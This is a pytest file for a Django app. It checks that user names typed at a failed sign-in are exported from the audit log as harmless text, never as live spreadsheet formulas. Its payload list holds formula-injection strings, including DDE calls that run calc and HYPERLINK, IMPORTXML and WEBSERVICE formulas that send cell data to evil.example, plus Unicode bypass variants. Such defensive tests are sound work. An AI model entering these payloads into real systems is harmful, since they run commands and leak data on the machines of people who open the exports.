"""Spreadsheet formulas in exports: what a stranger types at the sign-in page must never run in an auditor's
spreadsheet.

A failed sign-in stores the typed user name in the audit log. Each formula spelling is typed there through
the real sign-in form, the audit log is exported through the real view, and the file is read back the way
a spreadsheet reads it: no cell starts with a character that makes it a formula, and each cell still says
what was typed (behind the apostrophe spreadsheets hide).
"""

import csv
import io
import unicodedata

import pytest
from django.test import Client
from django.urls import reverse

from apps.core.exports import neutralise
from tests.factories import AdminFactory
from tests.helpers import login, sign_in

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"!A0")',
]
# Cells that are not formulas come out unchanged.
PLAIN = [
    "li.wei",
    "王伟",
    "ops-admin",
    "a=b",
    "1-2",
    "user@bank.example",
    "'quoted",
    # Formula text that does not start a cell is text to a spreadsheet; the CSV quoting keeps it one cell.
    'DDE("cmd";"/C calc";"!A0")',
    '"=1+1"',
    "a,=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def exported_rows(admin_browser):
    response = admin_browser.get(reverse("accounts:audit_export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def admin_browser():
    return login(Client(), AdminFactory())


@pytest.mark.parametrize("typed", FORMULAS, ids=repr)
def test_a_formula_typed_as_a_user_name_is_exported_as_text(admin_browser, typed):
    sign_in(Client(), typed, "wrong password")

    rows = exported_rows(admin_browser)

    # The sign-in form stores the name as Django normalises it (NFKC, stripped): that is what is exported.
    stored = unicodedata.normalize("NFKC", typed).strip()
    actors = [row[2] for row in rows[1:]]
    assert "'" + stored in actors, actors
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \u3000").startswith(FORMULA_START), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("typed", PLAIN)
def test_plain_names_are_exported_unchanged(admin_browser, typed):
    sign_in(Client(), typed, "wrong password")

    rows = exported_rows(admin_browser)

    assert typed in [row[2] for row in rows[1:]]
    assert all(len(row) == len(rows[0]) for row in rows)


def test_numbers_stay_numbers_and_nothing_is_empty_that_was_none():
    assert (neutralise(-5), neutralise(3.5), neutralise(None), neutralise("-5")) == (-5, 3.5, "", "'-5")
